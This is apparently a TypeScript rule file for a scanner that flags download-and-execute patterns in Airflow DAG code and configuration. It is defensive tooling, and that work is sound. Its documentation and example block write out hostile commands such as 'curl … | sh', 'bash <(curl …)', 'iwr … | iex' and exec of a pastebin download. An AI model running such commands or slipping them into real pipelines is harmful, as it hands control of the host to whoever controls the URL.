import type { SyntaxNode } from 'tree-sitter';
import { defineRule } from '../../src/engine/rule';
import { literalOf } from '../../src/airflow/strings';
import { callArgs } from '../../src/engine/python';
import type { Severity } from '../../src/report';
import { argStrings, classify, enclosingCalls, factsOf } from './_facts';
import { mayDownloadExec, SHELL_DOWNLOAD_EXEC, shapesInText, stringsWithShape } from './_shell-shapes';

/** `os.chmod(p, 0o755)`, `stat.S_IEXEC`, `S_IXUSR`, `0o777`… */
function execMode(mode: SyntaxNode | undefined): boolean {
  if (!mode) return false;
  if (/S_IX|S_IEXEC|S_IRWX/.test(mode.text)) return true;
  const m = /^0o?([0-7]{3,4})$/i.exec(mode.text.trim());
  return !!m && (parseInt(m[1], 8) & 0o111) !== 0;
}

export default defineRule({
  meta: {
    id: 'DG609',
    name: 'download-and-execute',
    category: 'malicious',
    severity: 'critical',
    message: 'download and execute: {what}{when}',
    docs: {
      what:
        'Finds a download whose result is executed: `exec`/`eval`/`compile` or a process fed with a download call or a variable holding one (`exec(requests.get(u).text)`), a downloaded file (`urlretrieve(u, path)`, `open(path, "wb")` next to a download) later made executable (`os.chmod` with an execute bit, `chmod +x`) or run; and shell shapes in strings — `curl … | sh`, `wget … | python`, `curl … && chmod +x …`, `eval "$(curl …)"`, `python -c "$(curl …)"`, `bash <(curl …)`, `curl -o /tmp/x.sh … && bash /tmp/x.sh`, Python one-liners that `exec(urlopen(…).read())`, PowerShell `iwr … | iex`. Critical when it runs at parse time, high in a task (e.g. a `BashOperator` command). In configuration files shipped with the DAGs (YAML, JSON, TOML, INI, `.env`: the documents DAG factories read), a `curl … | sh`-shaped command is reported too (*high*), wherever it sits; comments are not.',
      why:
        'Fetching code at run time means the code that runs is not the code that was reviewed — whoever controls the URL (or the network path to it) controls the Airflow host. At parse time it runs in the dag-processor with the scheduler\'s credentials, on every parse. It is GuardDog\'s "download-executable" / "dynamic loader" pattern.',
      example:
        '```python\nimport requests\nexec(requests.get("https://pastebin.example/raw/abc").text)\n\nBashOperator(task_id="setup", bash_command="curl -fsSL https://get.example.sh | sh")\n```',
      useInstead:
        'Install tools in the container image at build time (pinned versions, checksums), and ship Python code as reviewed packages. If a task must fetch a binary, pin it by SHA-256 and verify before running.',
    },
  },
  // configuration shipped with the DAGs (a factory's YAML naming `os:system` with a `curl … | sh` argument): the
  // shape in the document's text; shell scripts are left to review (bootstrap scripts install this way)
  onDataFile(ctx) {
    const kind = ctx.file.dataKind;
    if (kind !== 'yaml' && kind !== 'json' && kind !== 'toml' && kind !== 'ini' && kind !== 'env') return;
    shapesInText(ctx.file.text, mayDownloadExec, SHELL_DOWNLOAD_EXEC, (start, end) =>
      ctx.reportRange(start, end, { what: `a command in the configuration file \`${ctx.file.path.split('/').pop()}\` pipes a download into an interpreter`, when: '' }, { severity: 'high' }),
    );
  },
  // Shell shapes are found in the raw text, then located in the tree (cheaper than a `(string)` query).
  onFile(ctx) {
    const facts = factsOf(ctx);
    stringsWithShape(ctx, mayDownloadExec, SHELL_DOWNLOAD_EXEC, (s) => {
      const spawner = enclosingCalls(s).find((call) => classify(call, ctx).kinds.has('spawn'));
      const parse = !!spawner && ctx.isParseTime(spawner);
      ctx.report(s, { what: 'a shell command pipes a download into an interpreter or makes it executable', when: parse ? ' while the DAG file is parsed' : '' }, {
        severity: parse ? 'critical' : 'high',
      });
    });
    const downloads = facts.calls.filter((f) => f.kinds.has('download'));
    if (!downloads.length) return;
    const names = [...facts.downloaded.keys()];
    const nameRe = names.length ? new RegExp(`\\b(${names.join('|')})\\b`) : null;
    const paths = new Set(facts.downloadPaths);
    // Files opened for writing in a file that downloads: candidate payload paths.
    for (const f of facts.calls) {
      if (f.fn === 'open' && f.kinds.has('write')) {
        const a = callArgs(f.call).positional[0];
        const p = a ? literalOf(a) : null;
        if (p) paths.add(p);
      }
    }
    const reported = new Set<number>();
    const report = (node: SyntaxNode, what: string, parse: boolean): void => {
      if (reported.has(node.id)) return;
      reported.add(node.id);
      const severity: Severity = parse ? 'critical' : 'high';
      ctx.report(node, { what, when: parse ? ' while the DAG file is parsed' : '' }, { severity });
    };
    for (const f of facts.calls) {
      const runs = f.kinds.has('exec') || f.kinds.has('spawn');
      const args = f.call.childForFieldName('arguments');
      if (!args) continue;
      if (runs) {
        // compile(...) inside exec(...): judge the outer call only.
        if (f.kinds.has('exec') && enclosingCalls(f.call).some((e) => classify(e, ctx).kinds.has('exec'))) continue;
        // exec(requests.get(u).text)
        if (downloads.some((d) => enclosingCalls(d.call).some((e) => e.id === f.call.id))) {
          report(f.call, 'downloaded content is run as code', f.parseTime);
          continue;
        }
        if (nameRe && nameRe.test(args.text)) {
          report(f.call, 'downloaded content is run as code', f.parseTime);
          continue;
        }
        // the path written in place or through a name bound to it (`path = "/tmp/x.py"` … `runpy.run_path(path)`)
        const strs = argStrings(f.call) + ' ' + callArgs(f.call).positional.map((a) => literalOf(a) ?? '').join(' ');
        if ([...paths].some((p) => strs.includes(p))) {
          report(f.call, 'a downloaded file is run', f.parseTime);
          continue;
        }
        // `subprocess.run(["chmod", "+x", dest])` in a file that downloads (shell one-liners are judged as strings).
        if (/\bchmod\b[\s\S]*(\+x|\b[0-7]?[1357][0-7]{2}\b)/.test(strs) && !SHELL_DOWNLOAD_EXEC.test(strs)) {
          report(f.call, 'a file is made executable in a file that downloads', f.parseTime);
        }
        continue;
      }
      const fnText = f.call.childForFieldName('function')?.text ?? '';
      if (f.fn === 'os.chmod' || /\.chmod$/.test(fnText)) {
        const a = callArgs(f.call);
        const mode = f.fn === 'os.chmod' ? (a.positional[1] ?? a.keywords.get('mode')) : (a.positional[0] ?? a.keywords.get('mode'));
        if (execMode(mode)) report(f.call, 'a file is made executable in a file that downloads', f.parseTime);
      }
    }
  },
});
